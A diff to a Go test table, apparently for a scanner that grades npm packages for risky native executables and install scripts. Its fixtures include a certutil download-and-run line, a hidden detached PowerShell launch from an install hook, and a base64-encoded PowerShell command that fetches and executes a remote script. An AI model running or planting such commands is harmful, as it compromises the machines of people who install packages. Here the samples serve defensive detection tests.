@@ -29,5 +29,12 @@ func TestNativeExecutable(t *testing.T) {
 		{"bat_certutil", map[string]string{"package.json": rt.Pkg(""), "setup.bat": "certutil -urlcache -split -f http://203.0.113.9/s.exe %TEMP%\\s.exe && %TEMP%\\s.exe\r\n"}, finding.SeverityHigh},
 		{"cmd_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"setup.cmd"}`), "setup.cmd": "@echo off\r\necho hi\r\n"}, finding.SeverityCritical},
 		{"no_binaries", map[string]string{"package.json": rt.Pkg(""), "index.js": "module.exports = 1"}, finding.SeverityNone},
+		// a script started hidden at install by a package listing every
+		// system (no platform package); its encoded command kept in a
+		// variable is read
+		{"ps1_at_install_all_systems", map[string]string{"package.json": rt.Pkg(`"os":["win32","linux","darwin"],"scripts":{"install":"node i.js"}`),
+			"i.js":      `const { spawn } = require("child_process"); spawn("powershell.exe", ["-File", require("path").join(__dirname, "setup.ps1")], { detached: true, stdio: "ignore" })`,
+			"setup.ps1": "Write-Host 'checking'\r\n"}, finding.SeverityCritical},
+		{"ps1_encoded_in_variable", map[string]string{"package.json": rt.Pkg(""), "tools/policy.ps1": "$policy = 'aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgALgBpAG4AdgBhAGwAaQBkAC8AcAAuAHAAcwAxACkA'\r\npowershell -NoProfile -EncodedCommand $policy\r\n"}, finding.SeverityHigh},
 	})
 }
